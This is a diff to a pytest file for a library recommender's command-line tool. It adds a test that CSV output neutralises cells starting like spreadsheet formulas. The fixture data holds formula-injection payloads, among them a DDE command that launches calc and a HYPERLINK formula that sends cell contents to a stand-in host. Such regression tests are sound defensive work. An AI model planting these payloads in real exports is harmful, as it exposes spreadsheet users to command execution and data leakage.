@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -21,11 +22,14 @@ from recsys.privacy import Pseudonymizer
 
 KEY = "serving-commands-key-" + "7" * 32
 BOOKS = [f"b{i}" for i in range(8)]
+#: Catalog ids a spreadsheet would run as formulas (the last two stay plain).
+FORMULA_BOOKS = ['=HYPERLINK("https://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)"]
+FORMULA_BOOKS += ["=cmd|' /C calc'!A0", "+A2", "b6", "b7"]
 
 
-def raw_loans() -> pd.DataFrame:
+def raw_loans(books: list[str] = BOOKS) -> pd.DataFrame:
     rows = [
-        (f"r{r}", BOOKS[(r + j) % 8], 1_700_000_000 + 3600 * (r * 3 + j))
+        (f"r{r}", books[(r + j) % 8], 1_700_000_000 + 3600 * (r * 3 + j))
         for r in range(12)
         for j in range(3)
     ]
@@ -34,10 +38,17 @@ def raw_loans() -> pd.DataFrame:
 
 @pytest.fixture
 def published(
-    db_settings: Settings, engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    request: pytest.FixtureRequest,
+    db_settings: Settings,
+    engine: Engine,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
 ) -> Iterator[list[str]]:
-    """Two saved runs of a model of the loans in the database; the first one published."""
-    loans = raw_loans()
+    """Two saved runs of a model of the loans in the database; the first one published.
+
+    The books are `BOOKS` unless the test passes others (indirect parametrization)."""
+    books: list[str] = getattr(request, "param", BOOKS)
+    loans = raw_loans(books)
     loans[C.READER_ID] = Pseudonymizer(KEY.encode()).pseudonymize_series(loans[C.READER_ID])
     with engine.begin() as connection:
         connection.execute(
@@ -47,8 +58,8 @@ def published(
                 for r, b, t in loans.itertuples(index=False)
             ],
         )
-    catalog = pd.DataFrame({C.BOOK_ID: BOOKS, C.TITLE: [f"T{b}" for b in BOOKS]})
-    holdings = pd.DataFrame({C.BOOK_ID: BOOKS, C.LIBRARY_ID: "CEN"})
+    catalog = pd.DataFrame({C.BOOK_ID: books, C.TITLE: [f"T{b}" for b in books]})
+    holdings = pd.DataFrame({C.BOOK_ID: books, C.LIBRARY_ID: "CEN"})
     interactions = loans.assign(
         **{C.TIMESTAMP: pd.to_datetime(loans[C.TIMESTAMP], unit="s", utc=True)}
     )
@@ -140,6 +151,41 @@ def test_similar_writes_neighbours_to_stdout(
     assert lines[0] == "book_id,rank,similar_book_id,score"
     assert [line.split(",")[:2] for line in lines[1:]] == [["b2", "1"], ["b2", "2"]]
     assert "1 of 2 books known" in captured.err
+
+
+@pytest.mark.parametrize("published", [FORMULA_BOOKS], indirect=True)
+@pytest.mark.parametrize("command", ["similar", "recommend"])
+def test_batch_csv_neutralizes_cells_that_start_like_a_formula(
+    published: list[str], tmp_path: Path, command: str
+) -> None:
+    ids = tmp_path / "ids.txt"
+    ids.write_text("\n".join(FORMULA_BOOKS if command == "similar" else ["r1", "=1+2", "r5"]))
+    out = tmp_path / "out.csv"
+    flag = "--books" if command == "similar" else "--readers"
+    assert main([command, flag, str(ids), "--k", "7", "--format", "csv", "--out", str(out)]) == 0
+    with out.open(newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    text_columns = [i for i, name in enumerate(header) if name.endswith("_id")]
+    cells = [row[i] for row in rows for i in text_columns]
+    assert len(rows) >= 14 and cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    quoted = {cell for cell in cells if cell.startswith("'")}
+    expected = {"'" + book for book in FORMULA_BOOKS[:6]}
+    if command == "recommend":
+        expected.add("'=1+2")
+    assert quoted <= expected and len(quoted) >= 4
+    assert {cell for cell in cells if not cell.startswith("'")} <= {"b6", "b7", "r1", "r5"}
+    [float(row[header.index("score")]) for row in rows]  # scores stay numbers, negative ones too
+
+
+def test_an_unwritable_output_is_one_error_line(
+    published: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    books = tmp_path / "books.txt"
+    books.write_text("b2\n")
+    assert main(["similar", "--books", str(books), "--out", str(tmp_path)]) == 1
+    err = capsys.readouterr().err
+    assert err.splitlines() == [f"recsys similar: error: {tmp_path}: Is a directory"]
 
 
 def test_bad_k_is_a_usage_error(published: list[str], tmp_path: Path) -> None:
